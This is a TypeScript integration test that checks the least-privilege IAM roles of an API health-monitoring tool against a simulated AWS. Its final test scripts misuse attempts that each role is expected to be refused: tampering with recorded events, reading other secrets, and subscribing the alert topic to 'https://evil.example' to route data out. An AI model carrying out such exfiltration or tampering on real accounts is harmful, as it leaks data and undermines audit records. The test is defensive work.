import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { GetParametersByPathCommand, PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { CloudWatchClient, PutMetricDataCommand } from '@aws-sdk/client-cloudwatch';
import {
  DeleteItemCommand,
  DynamoDBClient,
  ExecuteStatementCommand,
  paginateScan,
  PutItemCommand,
  ScanCommand,
  UpdateItemCommand,
} from '@aws-sdk/client-dynamodb';
import { PublishCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { administrator, createSameTables, startCloud, type Cloud } from './support/cloud.ts';
import { resourceOf, type Resource } from './support/mocked-state.ts';
import { describeWith, needs } from './support/needs.ts';
import { covers, rightsOf } from './support/rights.ts';
import { startRoles, type RanAs, type RoleName, type Roles } from './support/roles.ts';
import { startTarget, type Target } from './support/target.ts';

type State = Readonly<{ values: Readonly<{ root_module: Readonly<{ resources: readonly Resource[] }> }> }>;

const policyOf: Readonly<Record<RoleName, string>> = {
  instance: 'aws_iam_role_policy.instance',
  worker: 'aws_iam_role_policy.worker[0]',
  operator: 'aws_iam_policy.operator',
  auditor: 'aws_iam_policy.auditor',
};

describeWith(
  [needs.terraform, needs.moto, needs.dynamodb],
  'each role by itself, on a stand-in of AWS',
  () => {
    let cloud: Cloud;
    let target: Target;
    let roles: Roles;
    const started: (() => Promise<unknown>)[] = [];

    beforeAll(async () => {
      cloud = await startCloud(started);
      await cloud.apply({ worker_count: '2' });
      await createSameTables(cloud.dynamodb);
      target = await startTarget();
      started.push(target.stop);
      const ssm = new SSMClient({ ...administrator, endpoint: cloud.standIn.endpoint });
      await ssm.send(
        new PutParameterCommand({ Name: '/upledger/prod/TOKEN', Type: 'SecureString', Value: 's3cret' }),
      );
      roles = await startRoles(cloud);
      process.chdir(cloud.folder);
      for (const role of ['instance', 'worker'])
        await writeFile(`${role}.jsonl`, `{"time":"${new Date().toISOString()}","what":"${role}"}\n`);
      await writeFile(
        join(cloud.folder, 'apis.yaml'),
        JSON.stringify({
          defaults: {
            check_interval_seconds: 1,
            headers: { authorization: 'Bearer ${env:UPLEDGER_SECRET_TOKEN}' },
          },
          apis: [
            { api_id: 'up', url: `${target.url}/up` },
            { api_id: 'down', url: `${target.url}/down`, notify_emails: ['team@example.com'] },
          ],
        }),
      );
    });

    afterAll(async () => {
      for (const undo of started.toReversed()) await undo();
    });

    const eventTypes = async (apiId?: string): Promise<readonly string[]> => {
      const types: string[] = [];
      for await (const { Items = [] } of paginateScan(
        { client: cloud.dynamodb },
        { TableName: 'api_health_events', ConsistentRead: true },
      ))
        types.push(
          ...Items.filter((item) => apiId === undefined || item['api_id']?.S === apiId).map(
            (item) => item['type']?.S ?? '',
          ),
        );
      return types;
    };

    const everything = async () =>
      Promise.all(
        ['api_health_configs', 'api_health_states', 'api_health_events'].map(
          async (TableName) =>
            (await cloud.dynamodb.send(new ScanCommand({ TableName, ConsistentRead: true }))).Items,
        ),
      );

    const refused = ({ asked }: RanAs): readonly string[] => [
      ...new Set(asked.filter(({ allowed }) => !allowed).map(({ action }) => action)),
    ];

    /** Runs the commands of a role: those that did not end well, or were refused anything. */
    const failuresOf = async (role: RoleName, commands: readonly string[]): Promise<readonly unknown[]> => {
      const failed: unknown[] = [];
      for (const command of commands) {
        const ran = await roles.as(role, command.split(' '));
        if (ran.code !== 0 || refused(ran).length > 0)
          failed.push([command, ran.code, refused(ran), ran.stdout.slice(-1500), ran.stderr]);
      }
      return failed;
    };

    /** The dashboard as a role: its pages that did not answer well, and what it was refused. */
    const failedPages = async (role: RoleName, args: readonly string[]): Promise<readonly string[]> => {
      const stop = new AbortController();
      const printed = Promise.withResolvers<string>();
      const serving = roles.as(
        role,
        ['serve', '--port', '0', ...args],
        {},
        { stop: stop.signal, onPrint: printed.resolve },
      );
      const url = (await printed.promise).trim();
      const failed: string[] = [];
      for (const path of [
        '/',
        '/api/status',
        '/api/transitions',
        '/api/report',
        '/api/events?api=down',
        '/metrics',
      ]) {
        const response = await fetch(new URL(path, url));
        if (!response.ok) failed.push(`${path}: ${String(response.status)} ${await response.text()}`);
        await response.body?.cancel();
      }
      stop.abort();
      return [...failed, ...refused(await serving)];
    };

    /** Runs commands that are not a role's: those that were not refused the action that is named, or ended well. */
    const notDenied = async (
      role: RoleName,
      commands: Readonly<Record<string, string>>,
    ): Promise<readonly string[]> => {
      const through: string[] = [];
      for (const [command, denied] of Object.entries(commands)) {
        const ran = await roles.as(role, command.split(' '));
        if (ran.code === 0 || !refused(ran).includes(denied)) through.push(command);
      }
      return through;
    };

    it('leaves nothing for a second plan to change, with workers', async () => {
      const { code, stdout } = await cloud.plan({ worker_count: '2' });

      expect([code, stdout]).toEqual([0, expect.stringContaining('No changes.')]);
    });

    it('the operator edits configs and subscribes addresses', async () => {
      expect(
        await failuresOf('operator', [
          'apis validate',
          'apis apply --dry-run',
          'apis apply --sync',
          'apis list',
          'apis export',
          'subscriptions list',
          'subscriptions sync',
        ]),
      ).toEqual([]);
    });

    it('the instance makes a pass whose alert stays pending, and dispatches', async () => {
      expect(await failuresOf('instance', ['run --alerts console'])).toEqual([]);
      // Slots are seconds of the wall clock: in the one of the pass nothing is due.
      await sleep(1000);
      expect(await failuresOf('instance', ['dispatch --alerts console'])).toEqual([]);

      expect((await eventTypes('down')).filter((type) => type.startsWith('Alert'))).toEqual([]);
    });

    it('the worker takes what was sent, new APIs too, and delivers what was owed before', async () => {
      expect(await failuresOf('worker', ['work --drain', 'doctor', 'ship-logs worker.jsonl'])).toEqual([]);

      expect((await eventTypes('down')).filter((type) => type.startsWith('Alert'))).toEqual([
        'AlertAttempted',
        'AlertPublished',
      ]);
    });

    it('the instance has its other commands', async () => {
      expect(
        await failuresOf('instance', [
          'run --all',
          'dispatch',
          'days',
          'doctor',
          'doctor --send-test',
          'status',
          'check up',
          'ship-logs instance.jsonl',
          'apis list',
          'channels list',
          'channels test default',
        ]),
      ).toEqual([]);
    });

    it('the operator reads everything, repairs states, and sends a test message', async () => {
      const key = { api_id: { S: 'down' } };
      const removed = { TableName: 'api_health_states', Key: key };
      await cloud.dynamodb.send(new DeleteItemCommand(removed));
      const found = await roles.as('operator', ['doctor', '--role', 'operator']);
      expect([found.code, found.stdout]).toEqual([
        1,
        expect.stringContaining('streams without a state, as after the states table was lost: down'),
      ]);
      expect(
        await failuresOf('operator', [
          'replay --write',
          'replay --write --reset --yes',
          'doctor --role operator --send-test',
          'status',
          'events down',
          'transitions',
          'transitions --since 2010-01-01',
          'explain down/3',
          'whatif',
          'report',
          'export',
          'audit',
          'page --output page',
          'channels list',
          'channels test default',
          'init',
        ]),
      ).toEqual([]);
      expect(await failedPages('operator', [])).toEqual([]);
    });

    it('the auditor reads and verifies', async () => {
      expect(
        await failuresOf('auditor', [
          'doctor --role auditor',
          'audit --seal seal.json',
          'audit --against seal.json',
          'export',
          'status --apis apis.yaml',
          'events down',
          'transitions',
          'transitions --since 2010-01-01',
          'explain down/3',
          'replay --verify',
          'whatif',
          'report',
          'page --apis apis.yaml --output public',
        ]),
      ).toEqual([]);
      expect(await failedPages('auditor', ['--apis', 'apis.yaml'])).toEqual([]);
    });

    it('doctor knows each role without being told, and finds nothing that it would have to be given', async () => {
      const told = new Map<RoleName, unknown>();
      for (const role of ['instance', 'worker', 'operator', 'auditor'] as const) {
        const { code, stdout } = await roles.as(role, ['doctor']);
        told.set(role, [code, /role: (\w+)/u.exec(stdout)?.[1], stdout.match(/FAULT|allow this role/gu)]);
      }
      expect(Object.fromEntries(told)).toEqual({
        instance: [0, 'instance', null],
        worker: [0, 'worker', null],
        operator: [0, 'operator', null],
        auditor: [0, 'auditor', null],
      });
    });

    it('used every permission that it has, with these commands', async () => {
      // Somebody leaves: the subscription is removed.
      await writeFile(join(cloud.folder, 'none.yaml'), 'apis: [{api_id: up, url: "https://example.com/"}]');
      expect(
        await failuresOf('operator', [
          'apis apply none.yaml --prune',
          'subscriptions sync',
          'apis apply --sync',
        ]),
      ).toEqual([]);
      const decisions = cloud.standIn.decisions();
      const state = JSON.parse(await cloud.terraform.succeed(['show', '-json'])) as State;
      const unused = Object.fromEntries(
        (['instance', 'worker', 'operator', 'auditor'] as const).map((role) => {
          const own = decisions.filter(({ role: name, allowed }) => allowed && name === roles.nameOf(role));
          const granted = rightsOf(resourceOf(state.values.root_module.resources, policyOf[role]));
          const left = granted.filter((right) => !own.some((decision) => covers(right, decision)));
          return [role, left.map(({ action, resource }) => `${action} ${resource.replace(/^.*:/u, '')}`)];
        }),
      );
      // The boot script fetches the release and answers the group; a path is read through itself.
      const boot = [
        's3:GetObject',
        'autoscaling:CompleteLifecycleAction',
        'ssm:GetParametersByPath',
        // for a roll-back to 0.1.0
        'dynamodb:BatchGetItem table/api_health_configs',
      ];
      const others = Object.entries(unused).map(([role, left]) => [
        role,
        left.filter((right) => !boot.some((action) => right.startsWith(action))),
      ]);
      expect(Object.fromEntries(others)).toEqual({ instance: [], worker: [], operator: [], auditor: [] });
    });

    it('is denied what is not its own, and nothing changes', async () => {
      await writeFile(
        join(cloud.folder, 'open.yaml'),
        JSON.stringify({ apis: [{ api_id: 'open', url: `${target.url}/down` }] }),
      );
      const before = await everything();
      expect(
        await notDenied('instance', {
          'apis apply open.yaml': 'dynamodb:PutItem',
          audit: 'dynamodb:Scan',
          export: 'dynamodb:Scan',
        }),
      ).toEqual([]);
      expect(
        await notDenied('worker', {
          run: 'dynamodb:Scan',
          dispatch: 'dynamodb:Scan',
          'apis list': 'dynamodb:Scan',
          'apis apply open.yaml': 'dynamodb:Scan',
          'subscriptions sync': 'dynamodb:Scan',
          audit: 'dynamodb:Scan',
        }),
      ).toEqual([]);
      expect(
        await notDenied('operator', {
          'run --apis open.yaml': 'dynamodb:PartiQLInsert',
          dispatch: 'sqs:GetQueueAttributes',
        }),
      ).toEqual([]);
      expect(
        await notDenied('auditor', {
          'apis apply open.yaml': 'dynamodb:Scan',
          'subscriptions sync': 'dynamodb:Scan',
          'run --apis open.yaml': 'dynamodb:PartiQLInsert',
          'doctor --role auditor --send-test': 'sns:Publish',
        }),
      ).toEqual([]);
      expect(await everything()).toEqual(before);
    });

    it('only who makes passes continues a stream with a gap', async () => {
      await cloud.dynamodb.send(
        new DeleteItemCommand({
          TableName: 'api_health_events',
          Key: { api_id: { S: 'up' }, seq: { N: '2' } },
        }),
      );
      const resume = ['resume', 'up', '--reason', 'an event was taken away'];
      const refusals = new Map<RoleName, unknown>();
      for (const role of ['auditor', 'operator', 'instance'] as const) {
        const ran = await roles.as(role, resume);
        refusals.set(role, [ran.code, refused(ran), ran.code === 0 ? '' : ran.stderr]);
      }
      expect(Object.fromEntries(refusals)).toEqual({
        auditor: [1, ['dynamodb:PartiQLInsert'], expect.any(String)],
        operator: [1, ['dynamodb:PartiQLInsert'], expect.any(String)],
        instance: [0, [], ''],
      });
    });

    it.each(['instance', 'worker', 'operator', 'auditor'] as const)(
      'the %s cannot change what was recorded, or do what no command does',
      async (role) => {
        const client = { ...roles.client(role), maxAttempts: 1 };
        const dynamodb = new DynamoDBClient(client);
        const sns = new SNSClient(client);
        const events = 'api_health_events';
        const key = { api_id: { S: 'down' }, seq: { N: '1' } };
        const statement = async (Statement: string) =>
          dynamodb.send(new ExecuteStatementCommand({ Statement }));
        const topic = await cloud.output('topic_arn');
        const runs = role === 'instance' || role === 'worker';
        const attempts: Readonly<Record<string, () => Promise<unknown>>> = {
          'overwrite an event': async () =>
            dynamodb.send(new PutItemCommand({ TableName: events, Item: key })),
          'update an event': async () =>
            dynamodb.send(new UpdateItemCommand({ TableName: events, Key: key })),
          'delete an event': async () =>
            dynamodb.send(new DeleteItemCommand({ TableName: events, Key: key })),
          'update an event by PartiQL': async () =>
            statement(`UPDATE "${events}" SET "type"='x' WHERE "api_id"='down' AND "seq"=1`),
          'delete an event by PartiQL': async () =>
            statement(`DELETE FROM "${events}" WHERE "api_id"='down' AND "seq"=1`),
          'delete a state': async () =>
            dynamodb.send(
              new DeleteItemCommand({ TableName: 'api_health_states', Key: { api_id: { S: 'down' } } }),
            ),
          'publish elsewhere': async () =>
            sns.send(
              new PublishCommand({ TopicArn: 'arn:aws:sns:eu-central-1:123456789012:other', Message: 'x' }),
            ),
          'have alerts sent to a URL, which need not confirm by mail': async () =>
            sns.send(
              new SubscribeCommand({ TopicArn: topic, Protocol: 'https', Endpoint: 'https://evil.example' }),
            ),
          'send metrics elsewhere': async () =>
            new CloudWatchClient(client).send(
              new PutMetricDataCommand({ Namespace: 'other', MetricData: [{ MetricName: 'x', Value: 1 }] }),
            ),
          "read another's secrets": async () =>
            new SSMClient(client).send(new GetParametersByPathCommand({ Path: '/upledger/prod2' })),
          ...(runs
            ? {
                'write a config': async () =>
                  dynamodb.send(
                    new PutItemCommand({ TableName: 'api_health_configs', Item: { api_id: { S: 'x' } } }),
                  ),
              }
            : {
                'insert an event': async () =>
                  statement(`INSERT INTO "${events}" VALUE {'api_id': 'down', 'seq': 99}`),
                'read the secrets': async () =>
                  new SSMClient(client).send(new GetParametersByPathCommand({ Path: '/upledger/prod' })),
              }),
        };
        const outcomes = new Map<string, string>();
        for (const [name, attempt] of Object.entries(attempts))
          outcomes.set(
            name,
            await attempt().then(
              () => 'done',
              (error: unknown) => String(error),
            ),
          );

        expect([...outcomes].filter(([, outcome]) => !outcome.includes('not authorized'))).toEqual([]);
        expect(outcomes.size).toBeGreaterThan(10);
      },
    );
  },
);
